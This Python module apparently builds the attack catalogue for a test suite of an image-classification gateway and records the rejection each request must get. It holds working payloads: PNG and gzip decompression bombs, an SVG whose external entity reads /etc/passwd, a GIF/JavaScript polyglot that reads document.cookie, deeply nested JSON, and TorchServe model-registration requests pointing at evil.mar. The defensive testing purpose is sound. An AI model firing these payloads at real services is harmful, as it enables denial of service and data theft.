"""Hostile requests, each built here once: the attack tests send them, and so does `scripts/demo`.

An attack names its threat (the file in this folder that tells its story), what has to come back, and how it is tried
against a running gateway.
"""

import base64
import functools
import gzip
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from PIL import Image

from stack.running import DIGITS, Answer, Target

BURST = 40


@dataclass(frozen=True)
class Attack:
    """One hostile request, and the only answer that will do; `file` is what hides in it, if a file does."""

    name: str
    threat: str
    status: int
    reason: str
    attempt: Callable[[Target], Answer]
    file: bytes = b""


def attacks_on(threat: str) -> list[Attack]:
    """Return the part of the catalogue that belongs to one threat."""
    return [attack for attack in list_attacks() if attack.threat == threat]


@functools.cache
def list_attacks() -> tuple[Attack, ...]:
    """Build the catalogue; takes a second, for the bomb is real."""
    return (
        *_list_stolen_access(),
        *_list_image_bombs(),
        *_list_disguised_files(),
        *_list_management_paths(),
        *_list_smuggled_headers(),
        *_list_flooding(),
    )


def sample_digit(digit: int = 7) -> bytes:
    """Return a real digit, as a client sends it."""
    return next(DIGITS.glob(f"samples/{digit}.*")).read_bytes()


@functools.cache
def png_bomb(width: int = 10_000, height: int = 8_000) -> bytes:
    """Return a valid RGB PNG whose pixels take `width * height * 3` bytes and whose file takes a thousandth of that."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    deflate = zlib.compressobj(6)
    row = bytes(1 + width * 3)
    pixels = b"".join(deflate.compress(row) for _ in range(height)) + deflate.flush()
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def truncated_jpeg() -> bytes:
    """Return the first two thirds of a JPEG."""
    stream = io.BytesIO()
    Image.linear_gradient("L").save(stream, "JPEG")
    return stream.getvalue()[: len(stream.getvalue()) * 2 // 3]


def tiff() -> bytes:
    """Return a small TIFF: a real image, in a format that the contract does not name."""
    stream = io.BytesIO()
    Image.linear_gradient("L").save(stream, "TIFF")
    return stream.getvalue()


def svg() -> bytes:
    """Return an SVG that reads a local file in a careless renderer."""
    return (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text>&x;</text></svg>'
    )


def gif_script() -> bytes:
    """Return bytes that are an image to a decoder and a program to a browser."""
    stream = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(stream, "GIF")  # the width's two bytes read /*
    return stream.getvalue() + b"*/=1;alert(document.cookie)//"


def two_pictures_of_one_name() -> bytes:
    """Return a form of which stock TorchServe drops one picture and answers for the other."""
    head = b'--x\r\nContent-Disposition: form-data; name="data"\r\n\r\n'
    return head + sample_digit(7) + b"\r\n" + head + sample_digit(3) + b"\r\n--x--\r\n"


def _list_stolen_access() -> list[Attack]:
    def with_key(name: str, status: int, reason: str, key: str | None) -> Attack:
        return Attack(name, "stolen_access", status, reason, _send(sample_digit(), key=key))

    return [
        with_key("no key", 401, "unauthenticated", None),
        with_key("key with a forged signature", 401, "unauthenticated", "forged"),
        with_key("expired key", 401, "unauthenticated", "expired"),
        with_key("key for another model", 403, "forbidden", "neighbour"),
        with_key("good key of an unlisted client", 403, "forbidden", "stranger"),
    ]


def _list_image_bombs() -> list[Attack]:
    def bomb(name: str, status: int, reason: str, body: bytes, kind: str = "image/png") -> Attack:
        return Attack(name, "image_bombs", status, reason, _send(body, kind), body)

    gzipped = _send(gzip.compress(bytes(10_000_000)), headers={"content-encoding": "gzip"})
    return [
        bomb("80-megapixel PNG bomb", 413, "too_many_pixels", png_bomb()),
        bomb("the same bomb, base64 in JSON", 413, "too_many_pixels", as_json(png_bomb()), "application/json"),
        Attack("20 MB body", "image_bombs", 413, "too_many_bytes", _send(bytes(20_000_000))),
        Attack("gzip bomb as content-encoding", "image_bombs", 415, "unsupported_media_type", gzipped),
    ]


def _list_disguised_files() -> list[Attack]:
    def file(name: str, status: int, reason: str, body: bytes, kind: str) -> Attack:
        return Attack(name, "disguised_files", status, reason, _send(body, kind), body)

    nested = b'{"data":' + b"[" * 50_000
    form = _send(b"a&" * 1000, "application/x-www-form-urlencoded")
    twice = _send(two_pictures_of_one_name(), "multipart/form-data; boundary=x")
    return [
        file("truncated JPEG", 400, "broken_image", truncated_jpeg(), "image/jpeg"),
        file("TIFF renamed .png", 415, "format_not_allowed", tiff(), "image/png"),
        file("SVG with an external entity", 415, "unknown_format", svg(), "image/svg+xml"),
        file("polyglot GIF/JavaScript", 415, "format_not_allowed", gif_script(), "image/gif"),
        file("deeply nested JSON", 413, "json_too_deep", nested, "application/json"),
        Attack("form body for the server's parser", "disguised_files", 415, "unsupported_media_type", form),
        Attack("form of two pictures of one name", "disguised_files", 415, "unsupported_media_type", twice),
    ]


def _list_management_paths() -> list[Attack]:
    def path(name: str, method: str, target: str, status: int = 404, reason: str = "not_found") -> Attack:
        return Attack(name, "management_paths", status, reason, _send(method=method, path=target))

    return [
        path("POST /models (register a model)", "POST", "/models?url=http://127.0.0.1:9/evil.mar"),
        path("POST /workflows (runs code in stock)", "POST", "/workflows?url=http://127.0.0.1:9/evil.war"),
        path("GET /predictions%2Fdigits", "GET", "/predictions%2Fdigits", 400, "bad_request"),
        path("OPTIONS / (lists the API in stock)", "OPTIONS", "/"),
    ]


def _list_smuggled_headers() -> list[Attack]:
    digit = sample_digit()
    describe = _send(as_json(digit), "application/json", headers={"describe": "True"})
    return [
        Attack("header explain: True", "smuggled_headers", 200, "", _send(digit, headers={"explain": "True"})),
        Attack("header describe: True", "smuggled_headers", 200, "", describe),
    ]


def _list_flooding() -> list[Attack]:
    return [Attack(f"burst of {BURST} requests, 10 allowed", "flooding", 429, "rate_limited", send_burst)]


def send_burst(target: Target) -> Answer:
    """Send many good requests, and return the first refusal: a later one may find its bucket filled up a little."""
    answers = send_many(target, "hasty")
    return next((answer for answer in answers if answer.status != 200), answers[-1])


def send_many(target: Target, key: str) -> list[Answer]:
    """Send as many good requests as a burst has, one after the other over one connection."""
    connection = target.connect()
    answers = [target.send(body=sample_digit(), key=key, connection=connection) for _ in range(BURST)]
    connection.close()
    return answers


def as_json(file: bytes) -> bytes:
    """Return the other form in which a client may send an image."""
    return b'{"data": "%s"}' % base64.b64encode(file)


def _send(body: bytes = b"", kind: str = "application/octet-stream", **options: Any) -> Callable[[Target], Answer]:
    headers = {"content-type": kind, **options.pop("headers", {})}
    return lambda target: target.send(body=body, headers=headers, **options)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
